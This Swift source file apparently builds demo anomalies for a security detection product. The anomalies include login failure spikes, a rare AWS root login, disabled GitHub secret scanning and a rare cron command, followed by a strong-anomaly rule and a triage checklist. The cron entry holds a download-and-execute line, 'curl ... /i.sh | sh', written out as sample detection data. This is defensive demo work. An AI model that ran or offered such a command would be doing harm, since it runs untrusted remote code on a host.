import Foundation
import Vocabulary

/// An anomaly of the demo: what a job of the starter packs would say of something planted in the logs.
struct DemoAnomaly: Sendable {
    /// How long before the end, in hours.
    let hours: Double
    let job: String
    let detector: String
    let series: [Anomaly.Member]
    let bucketSeconds: Int
    let score: Double
    /// What is said of it today.
    let current: Double
    let shape: Anomaly.Shape
    let actual: Double
    let typical: Double
    let bounds: ClosedRange<Double>?
    let influencers: [Anomaly.Influencer]
    let sentence: String

    private init(
        _ hours: Double,
        _ job: String,
        _ detector: String,
        _ series: [Anomaly.Member],
        _ score: Double,
        current: Double? = nil,
        bucketSeconds: Int = 900,
        _ shape: Anomaly.Shape,
        _ actual: Double,
        usually typical: Double = 0,
        _ bounds: ClosedRange<Double>? = nil,
        from influencers: [(field: String, value: String, share: Double)],
        _ sentence: String
    ) {
        self.hours = hours
        self.job = job
        self.detector = detector
        self.series = series
        self.bucketSeconds = bucketSeconds
        self.score = score
        self.current = current ?? score
        self.shape = shape
        self.actual = actual
        self.typical = typical
        self.bounds = bounds
        self.influencers = influencers.map { influencer in
            Anomaly.Influencer(
                part: Anomaly.Part(field: influencer.field, value: influencer.value),
                share: influencer.share
            )
        }
        self.sentence = sentence
    }

    private static func member(_ role: Anomaly.Role, _ field: String, _ value: String) -> Anomaly.Member {
        Anomaly.Member(role: role, part: Anomaly.Part(field: field, value: value))
    }

    /// The buckets' starts lie on whole multiples of their length since 1970.
    func anomaly(_ id: AnomalyID, before end: Date) -> Anomaly {
        let length = Double(bucketSeconds)
        let instant = end.timeIntervalSince1970 - hours * 3_600
        return Anomaly(
            id: id,
            job: JobID(rawValue: job),
            detector: 0,
            detectorText: detector,
            series: series,
            at: Date(timeIntervalSince1970: (instant / length).rounded(.down) * length),
            bucketSeconds: bucketSeconds,
            score: Score(score),
            current: Score(current),
            probability: length / returnSeconds,
            returnSeconds: returnSeconds,
            shape: shape,
            actual: [actual],
            typical: [typical],
            bounds: bounds,
            influencers: influencers,
            sentence: sentence
        )
    }

    /// The time of return that a score stands for: 20 a week, 50 sixty days, 80 two years, 100 a hundred years, straight
    /// in its logarithm between them.
    private var returnSeconds: Double {
        let day = 86_400.0
        let knots = [(0.0, day), (20, 7 * day), (50, 60 * day), (80, 730.5 * day), (100, 36_525 * day)]
        for (low, high) in zip(knots, knots.dropFirst()) where score <= high.0 {
            let share = (score - low.0) / (high.0 - low.0)
            return low.1 * pow(high.1 / low.1, share)
        }
        return 36_525 * day
    }

    /// In order of time.
    static let all: [DemoAnomaly] = (accounts + hosts + code).sorted { $0.hours > $1.hours }

    private static let accounts: [DemoAnomaly] = [
        DemoAnomaly(
            0.75,
            "auth_high_count_logon_failures_for_user",
            "high_non_zero_count by user.name",
            [member(.by, "user.name", "admin")],
            83.4,
            .spike,
            23,
            usually: 0,
            0...3,
            from: [("source.ip", "203.0.113.44", 1), ("host.name", "bastion", 1)],
            "23 events of user.name admin, usually 0 (0 to 3)"
        ),
        DemoAnomaly(
            5,
            "okta_high_count_failures_for_user",
            "high_non_zero_count by user.name",
            [member(.by, "user.name", "alice@example.com")],
            57.2,
            .spike,
            5,
            usually: 1,
            0...2,
            from: [("source.ip", "198.51.100.99", 0.8)],
            "5 events of user.name alice@example.com, usually 1 (0 to 2)"
        ),
        DemoAnomaly(
            42,
            "aws_rare_action_for_user",
            "rare by event.action partition user.name",
            [member(.partition, "user.name", "root"), member(.by, "event.action", "ConsoleLogin")],
            64.9,
            current: 52.3,
            bucketSeconds: 3_600,
            .rare,
            1,
            from: [("user.name", "root", 1), ("event.action", "ConsoleLogin", 1)],
            "event.action ConsoleLogin for user.name root, never seen in 14 days"
        ),
        DemoAnomaly(
            146,
            "aws_rare_action_for_user",
            "rare by event.action partition user.name",
            [member(.partition, "user.name", "mallory"), member(.by, "event.action", "DeleteDetector")],
            41.5,
            bucketSeconds: 3_600,
            .rare,
            1,
            from: [("user.name", "mallory", 1), ("source.ip", "203.0.113.80", 1)],
            "event.action DeleteDetector for user.name mallory, never seen in 8 days"
        ),
    ]

    private static let hosts: [DemoAnomaly] = [
        DemoAnomaly(
            20,
            "linux_rare_sudo_user",
            "rare by user.name",
            [member(.by, "user.name", "mallory")],
            48.1,
            .rare,
            1,
            from: [("host.name", "app-1", 1), ("user.name", "mallory", 1)],
            "user.name mallory, never seen in 14 days"
        ),
        DemoAnomaly(
            19.7,
            "auth_rare_source_for_user",
            "rare by source.ip partition user.name",
            [member(.partition, "user.name", "mallory"), member(.by, "source.ip", "198.51.100.77")],
            36,
            .rare,
            2,
            from: [("user.name", "mallory", 1), ("host.name", "app-1", 0.9)],
            "source.ip 198.51.100.77 for user.name mallory, never seen in 14 days"
        ),
        DemoAnomaly(
            97,
            "windows_rare_child_of_parent",
            "rare by process.name partition process.parent.executable",
            [
                member(.partition, "process.parent.executable", "C:\\Windows\\System32\\cmd.exe"),
                member(.by, "process.name", "powershell.exe"),
            ],
            55.8,
            bucketSeconds: 1_800,
            .rare,
            1,
            from: [("user.name", "heidi", 1), ("host.name", "ws-31.corp.example", 1)],
            "process.name powershell.exe for process.parent.executable C:\\Windows\\System32\\cmd.exe, never seen in 10 days"
        ),
    ]

    private static let code: [DemoAnomaly] = [
        DemoAnomaly(
            77,
            "github_rare_action_for_user",
            "rare by event.action partition user.name",
            [member(.partition, "user.name", "mallory"), member(.by, "event.action", "repo.access")],
            82.1,
            bucketSeconds: 3_600,
            .rare,
            1,
            from: [("user.name", "mallory", 1), ("github.repo", "example-org/billing", 1)],
            "event.action repo.access for user.name mallory, never seen in 11 days"
        ),
        DemoAnomaly(
            170,
            "github_rare_action_for_user",
            "rare by event.action partition user.name",
            [
                member(.partition, "user.name", "ivan"),
                member(.by, "event.action", "repository_secret_scanning.disable"),
            ],
            28.4,
            current: 22.9,
            bucketSeconds: 3_600,
            .rare,
            1,
            from: [("user.name", "ivan", 1), ("github.repo", "example-org/shop", 1)],
            "event.action repository_secret_scanning.disable for user.name ivan, never seen in 7 days"
        ),
        DemoAnomaly(
            4,
            "linux_rare_cron_command",
            "rare by process.command_line partition host.name",
            [
                member(.partition, "host.name", "db-1"),
                member(.by, "process.command_line", "curl -fsSL http://198.51.100.200/i.sh | sh"),
            ],
            67.7,
            .rare,
            1,
            from: [("host.name", "db-1", 1), ("user.name", "redis", 1)],
            "process.command_line curl -fsSL http://198.51.100.200/i.sh | sh for host.name db-1, never seen in 14 days"
        ),
    ]

    /// The rule of the starter pack that a single strong anomaly meets, and what it says.
    static let strong = (
        id: RuleID(rawValue: "e6f28061-09d3-590b-894c-643082321a3f"), title: "Strong anomaly", least: 80.0
    )

    private static let guide = """
        # What happened

        A job saw something that chance alone would do about once in two years.

        ## Check

        - [ ] Open the anomaly: what was measured, what is usual, and who takes part.
        - [ ] Are there others of the same user, host or address in the hour around it?
        - [ ] If it is explained and comes again, say on the anomaly that it is expected, and until when.
        """

    /// The findings that the rule makes of them, with the time at which the line would come to each.
    static func findings(of anomalies: [Anomaly]) -> [(finding: Finding, at: Date)] {
        anomalies.filter { $0.score.value >= strong.least }.map { anomaly in
            let entity = anomaly.series.first.map { Entity(fields: [$0.part.field], values: [$0.part.value]) }
            let finding = Finding(
                kind: .anomaly(anomaly.score),
                rule: strong.id,
                title: strong.title,
                message: "\(anomaly.sentence) (\(anomaly.job))",
                entity: entity,
                anomalies: anomaly.id.map { [$0] } ?? [],
                at: anomaly.at,
                guide: guide
            )
            return (finding, anomaly.until.addingTimeInterval(300))
        }
    }
}
